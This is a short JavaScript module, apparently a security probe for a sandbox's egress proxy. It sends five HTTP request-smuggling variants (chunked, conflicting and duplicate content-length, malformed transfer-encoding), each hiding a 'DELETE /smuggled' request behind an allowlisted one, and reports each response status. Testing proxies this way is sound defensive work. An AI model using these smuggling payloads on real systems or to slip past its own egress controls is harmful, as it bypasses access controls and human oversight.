// Hides a second request in the body of a first one that the allowlist lets through, framed in ways that a proxy and a
// server may read differently; says the status of each first one.
import { connect } from 'node:net';

const say = (socketPath, text) => new Promise((resolve) => {
  let said = '';
  const socket = connect(socketPath, () => socket.write(text));
  socket.on('data', (chunk) => {
    said += chunk;
    if (said.includes('\r\n\r\n')) socket.destroy();
  }).on('error', () => resolve('broken')).on('close', () => resolve(said.slice(9, 12)));
});

export default async ({ url }, ctx) => {
  const { socketPath, token } = ctx.egress;
  const smuggled = 'DELETE /smuggled HTTP/1.1\r\nhost: api.upstream.test\r\n\r\n';
  const head = (framing) => `GET ${url} HTTP/1.1\r\nhost: x\r\nproxy-authorization: Bearer ${token}\r\n${framing}\r\n\r\n`;
  return [
    await say(socketPath, `${head('transfer-encoding: chunked')}${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`),
    await say(socketPath, `${head('content-length: 3')}abc${smuggled}`),
    await say(socketPath, `${head('content-length: 3\r\ntransfer-encoding: chunked')}0\r\n\r\n${smuggled}`),
    await say(socketPath, `${head('content-length: 3\r\ncontent-length: 60')}abc${smuggled}`),
    await say(socketPath, `${head(`transfer-encoding: chunked, identity`)}${smuggled}`),
  ];
};
